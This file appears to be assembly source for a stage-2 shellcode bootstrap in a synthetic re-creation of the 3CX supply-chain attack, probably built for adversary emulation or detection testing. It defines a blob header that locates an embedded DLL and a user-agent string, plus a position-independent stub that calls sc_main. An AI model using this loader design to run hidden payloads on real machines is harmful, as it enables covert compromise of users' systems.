/*
 * chainreplay synthetic 3CX scenario, stage-2 shellcode bootstrap (x86-64).
 * Written from scratch. Must be the first object on the link line: offset 0 of the
 * extracted .text is the shellcode entry.
 *
 * Blob header (16 bytes, identical on x86 and x64; tools/build.py patches the fields):
 *   +0  EB 0E          jmp short +16 (over the header)
 *   +2  "S2"           magic
 *   +4  uint32 dll_off offset of the embedded PE DLL from the blob start
 *   +8  uint32 dll_len its length in bytes
 *   +12 uint32 ua_off  offset of the NUL-terminated user-agent string
 *   +16 bootstrap code: find own address, call sc_main(base), return to the caller.
 */
    .text
    .globl  sc_entry
sc_entry:
    .byte   0xEB, 0x0E
    .ascii  "S2"
    .long   0, 0, 0
    pushq   %rbx
    movq    %rsp, %rbx
    andq    $-16, %rsp
    subq    $32, %rsp            /* shadow space */
    leaq    sc_entry(%rip), %rcx /* RIP-relative: blob base */
    call    sc_main
    movq    %rbx, %rsp
    popq    %rbx
    ret
